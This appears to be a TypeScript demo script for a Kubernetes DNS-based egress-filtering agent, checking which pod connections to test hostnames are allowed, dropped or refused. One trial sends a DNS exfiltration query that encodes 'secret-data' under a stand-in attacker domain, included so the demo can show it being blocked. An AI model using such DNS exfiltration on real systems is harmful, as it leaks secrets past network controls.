/*
 * The demo (the README's first command): a node-in-a-box with the real agent.
 *   a resolver (dnsmasq) with a few names, one behind a CNAME chain, one with IPv6
 *   real TCP servers behind them
 *   shop/payments  fqdn-egress.io/allow: "api.stripe.test:443, *.kadath.test"
 *   shop/frontend  no annotation: untouched
 *   shop/audit     the same allow list, in audit mode: passes, but reports
 *   shop/checkout  fqdn-egress.io/allow: "api.stripe.test:4443/tls": one TLS
 *                  server IP serving every name; only the allowed server name
 *                  (SNI) completes its handshake, another is reset by the kernel
 *   shop/ledger    no annotation, label app=ledger: the platform's policy
 *                  FQDNEgressPolicy shop/ledger-egress (podSelector app=ledger)
 *                  allows it www.kadath.test:443 and nothing else
 * payments' DNS queries for names outside its list are answered NXDOMAIN by
 * the kernel (one of them an exfiltration attempt): the resolver never sees them.
 * Real clients in each pod resolve a name and connect to what it answered.
 * Prints what was tried, allowed or dropped, and why; then egressctl inspect
 * and egressctl drops. Exits 0 only if every outcome is the expected one.
 *   --keep   leave it running (prints how to enter the pods and clean up)
 */
import { execFileSync } from 'node:child_process';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { withAgentBox, type AgentBox } from './helpers/agent-fixture.js';
import { withCert, startTlsServer, sClient, TLS_PORT } from './helpers/tls-server.js';

const EGRESSCTL = join(dirname(fileURLToPath(import.meta.url)), '..', 'agent', 'cli', 'egressctl.js');
const ALLOW = 'api.stripe.test:443, *.kadath.test';
const TLS_ALLOW = `api.stripe.test:${TLS_PORT}/tls`;
const TLS_SERVER = '203.0.113.10'; // api.stripe.test's address; the server answers any name on it
/** The platform's policy: what every pod labelled app=ledger in namespace shop may reach. */
const LEDGER_POLICY = {
  apiVersion: 'fqdn-egress.io/v1alpha1',
  kind: 'FQDNEgressPolicy',
  metadata: { name: 'ledger-egress', namespace: 'shop' },
  spec: {
    podSelector: { matchLabels: { app: 'ledger' } },
    egress: [{ names: ['www.kadath.test'], ports: [{ port: 443, protocol: 'TCP' }] }],
  },
};

/** TLS trials: which server name the client sends to api.stripe.test's IP. */
const TLS_TRIALS: Array<{ serverName: string; expect: 'allowed' | 'refused'; why: string }> = [
  { serverName: 'api.stripe.test', expect: 'allowed', why: 'the allowed server name: the handshake completes' },
  {
    serverName: 'blocked.test',
    expect: 'refused',
    why: 'another site on the same IP: reset by the kernel (tls-server-name)',
  },
];

interface Trial {
  pod: string;
  name: string;
  type?: 'A' | 'AAAA';
  port: number;
  expect: 'allowed' | 'dropped' | 'no answer';
  why: string;
}

const TRIALS: Trial[] = [
  { pod: 'payments', name: 'api.stripe.test', port: 443, expect: 'allowed', why: 'api.stripe.test:443 is allowed' },
  {
    pod: 'payments',
    name: 'api.stripe.test',
    type: 'AAAA',
    port: 443,
    expect: 'allowed',
    why: 'the same name over IPv6 (AAAA)',
  },
  { pod: 'payments', name: 'api.stripe.test', port: 8443, expect: 'dropped', why: 'only port 443 is allowed for it' },
  { pod: 'payments', name: 'www.kadath.test', port: 443, expect: 'allowed', why: '*.kadath.test matches' },
  {
    pod: 'payments',
    name: 'pay.kadath.test',
    port: 443,
    expect: 'allowed',
    why: '*.kadath.test, through a CNAME chain',
  },
  {
    pod: 'payments',
    name: 'kadath.test',
    port: 443,
    expect: 'no answer',
    why: '*.kadath.test never matches kadath.test itself: NXDOMAIN from the kernel',
  },
  {
    pod: 'payments',
    name: 'blocked.test',
    port: 443,
    expect: 'no answer',
    why: 'not in the allow list: the query is answered NXDOMAIN',
  },
  {
    pod: 'payments',
    name: 'c2VjcmV0LWRhdGE.exfil.attacker.test',
    port: 443,
    expect: 'no answer',
    why: 'DNS exfiltration: the resolver never sees the query',
  },
  { pod: 'frontend', name: 'blocked.test', port: 443, expect: 'allowed', why: 'no annotation: not enforced' },
  {
    pod: 'ledger',
    name: 'www.kadath.test',
    port: 443,
    expect: 'allowed',
    why: 'no annotation: policy shop/ledger-egress selects it (app=ledger) and allows this',
  },
  {
    pod: 'ledger',
    name: 'api.stripe.test',
    port: 443,
    expect: 'no answer',
    why: 'not in policy shop/ledger-egress: NXDOMAIN from the kernel',
  },
  {
    pod: 'audit',
    name: 'blocked.test',
    port: 443,
    expect: 'allowed',
    why: 'audit mode: passes, reported as an audit event',
  },
];

function egressctl(box: AgentBox, args: string[]): string {
  return execFileSync('nsenter', [
    `--net=${box.topo.nodeNsPath}`,
    process.execPath,
    EGRESSCTL,
    ...args,
    '--pin-dir',
    box.topo.pinDir,
  ]).toString();
}

async function run(keep: boolean): Promise<number> {
  let failures = 0;
  await withCert((cert, key) =>
    withAgentBox(
      undefined,
      [{ name: 'payments' }, { name: 'frontend' }, { name: 'audit' }, { name: 'checkout' }, { name: 'ledger' }],
      { prefix: 'fqedemo' },
      async (box) => {
        await startTlsServer(box.topo, cert, key, [TLS_SERVER]);
        box.writePods(
          [
            { name: 'payments', allow: ALLOW },
            { name: 'frontend' },
            { name: 'audit', allow: ALLOW, mode: 'audit' },
            { name: 'checkout', allow: TLS_ALLOW },
            { name: 'ledger', labels: { app: 'ledger' } },
          ],
          { policies: [LEDGER_POLICY] },
        );
        await box.startAgent(['--log-level', 'warn']);
        console.log(`fqdn-egress demo: agent running, shop/payments allowed "${ALLOW}" (its annotation);`);
        console.log('shop/ledger has no annotation: the FQDNEgressPolicy shop/ledger-egress selects it\n');
        const rows: string[][] = [['POD', 'TRIED', 'RESULT', 'EXPECTED', 'WHY']];
        for (const t of TRIALS) {
          const answer = (await box.dig(t.pod, t.name, t.type ?? 'A')).filter((l) => !l.endsWith('.')).pop();
          let got: 'allowed' | 'dropped' | 'no answer' = 'no answer';
          if (answer) got = (await box.connect(t.pod, answer, t.port, 800)) ? 'allowed' : 'dropped';
          if (got !== t.expect) failures++;
          const target = answer ? (answer.includes(':') ? `[${answer}]` : answer) : '?';
          rows.push([`shop/${t.pod}`, `${t.name} → ${target}:${t.port}`, got, got === t.expect ? 'yes' : 'NO', t.why]);
        }
        await box.dig('checkout', 'api.stripe.test');
        for (const t of TLS_TRIALS) {
          const got = (await sClient(box.topo, 'checkout', TLS_SERVER, t.serverName)).ok ? 'allowed' : 'refused';
          if (got !== t.expect) failures++;
          rows.push([
            'shop/checkout',
            `TLS, SNI ${t.serverName} → ${TLS_SERVER}:${TLS_PORT}`,
            got,
            got === t.expect ? 'yes' : 'NO',
            t.why,
          ]);
        }
        const widths = rows[0]!.map((_, i) => Math.max(...rows.map((r) => [...r[i]!].length)));
        for (const r of rows)
          console.log(
            r
              .map((c, i) => c + ' '.repeat(widths[i]! - [...c].length))
              .join('  ')
              .trimEnd(),
          );
        console.log('\n$ egressctl inspect\n' + egressctl(box, ['inspect']));
        console.log('$ egressctl policies\n' + egressctl(box, ['policies']));
        console.log('$ egressctl drops\n' + egressctl(box, ['drops']));
        console.log(failures === 0 ? 'demo: every outcome as expected' : `demo: ${failures} unexpected outcome(s)`);
        if (!keep) return undefined;
        console.log('\nThe box is still running. Try:');
        console.log(`  ip netns exec ${box.topo.pod('payments').netns} dig @192.0.2.2 www.kadath.test`);
        console.log(`  ip netns exec ${box.topo.pod('payments').netns} curl -m 2 -v http://203.0.113.11:80/`);
        console.log(
          `  ip netns exec ${box.topo.pod('checkout').netns} openssl s_client -connect ${TLS_SERVER}:${TLS_PORT} -servername blocked.test`,
        );
        console.log(`  nsenter --net=${box.topo.nodeNsPath} node ${EGRESSCTL} inspect --pin-dir ${box.topo.pinDir}`);
        console.log('Clean up:  npm run demo -- --clean');
        return 'keep';
      },
    ),
  );
  return failures === 0 ? 0 : 1;
}

run(process.argv.includes('--keep')).then(
  (code) => process.exit(code),
  (err: Error) => {
    console.error(`demo failed: ${err.stack ?? err.message}`);
    process.exit(1);
  },
);
